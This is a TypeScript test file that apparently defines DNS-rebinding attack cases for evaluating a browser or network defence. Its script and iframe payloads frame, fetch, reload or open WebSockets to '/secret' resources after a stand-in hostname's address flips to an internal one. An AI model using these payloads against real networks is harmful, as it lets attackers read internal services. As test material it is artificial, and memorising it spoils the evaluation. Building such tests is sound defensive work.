import { publicUrl } from '../addresses.ts';
import { type AttackFamily, page, script, upload, visit } from '../attack.ts';

/** A name whose address is public for the first `turns` questions. */
const flipping = (label: string, turns: number, port = 80): string =>
  `http://${label}.flip-${turns}.example${port === 80 ? '' : `:${port}`}`;

/** A page of the public site, under a name that will have moved inside. */
const rebound = (label: string, markup: string) => ({
  site: { '': { body: page(markup) } },
  url: `${flipping(label, 1)}/${label}/`,
});

const frameLater = rebound(
  'rebind-frame',
  script(
    `setTimeout(() => document.body.insertAdjacentHTML('beforeend', '<iframe src="/secret.html"></iframe>'), 50)`,
  ),
);
const fetchLater = rebound(
  'rebind-fetch',
  script(
    `setTimeout(() => fetch('/secret.txt', { cache: 'no-store' }).then((r) => r.text()).then(show, show), 50)`,
  ),
);
const reload = rebound('rebind-reload', script(`setTimeout(() => location.replace('/secret.html'), 50)`));

export const rebindingFamily: AttackFamily = {
  family: 'DNS rebinding',
  attacks: [
    ...[1, 2, 3].map((turns) =>
      visit(`rebind-after-${turns}`, `${flipping(`after-${turns}`, turns)}/rebind-after-${turns}/`, {
        site: { '': { body: page('') } },
        checkedControl: true,
      }),
    ),
    visit('rebind-frame', frameLater.url, { site: frameLater.site, checkedControl: true }),
    visit('rebind-fetch', fetchLater.url, { site: fetchLater.site, checkedControl: true }),
    visit('rebind-reload', reload.url, { site: reload.site, checkedControl: true }),
    visit('rebind-redirect', publicUrl('rebind-redirect/'), {
      site: {
        '': { status: 302, headers: { location: `${flipping('redirect', 1)}/rebind-redirect/again` } },
        again: { status: 302, headers: { location: publicUrl('rebind-redirect/last') } },
        last: { body: page(`<iframe src="${flipping('redirect', 1)}/secret.html"></iframe>`) },
      },
    }),
    visit('rebind-by-site', `${flipping('by-site', 1)}/rebind-by-site/`, {
      // Browsers partition cached addresses by top-level site: the name of the frame is resolved again.
      site: {
        '': { body: page(script(`location = '${publicUrl('rebind-by-site/outer')}'`)) },
        outer: { body: page(`<iframe src="${flipping('by-site', 1)}/secret.html"></iframe>`) },
      },
      settle: 600,
    }),
    upload('rebind-upload-frame', `<iframe src="${flipping('upload-frame', 0)}/secret.html"></iframe>`),
    upload('rebind-upload-image', `<img src="${flipping('upload-image', 0)}/secret.png">`),
    upload(
      'rebind-web-socket',
      script(
        `new WebSocket('${flipping('web-socket', 0, 9001).replace('http', 'ws')}/').onmessage = (e) => show(e.data)`,
      ),
    ),
    upload('second-address', `<iframe src="http://mixed.example:7001/secret.html"></iframe>`),
    upload(
      'second-address-fetch',
      script(`fetch('http://mixed.example:7001/secret.txt').then((r) => r.text()).then(show, show)`),
    ),
    upload(
      'second-address-web-socket',
      script(`new WebSocket('ws://mixed-reversed.example:7001/').onmessage = (e) => show(e.data)`),
    ),
  ],
};
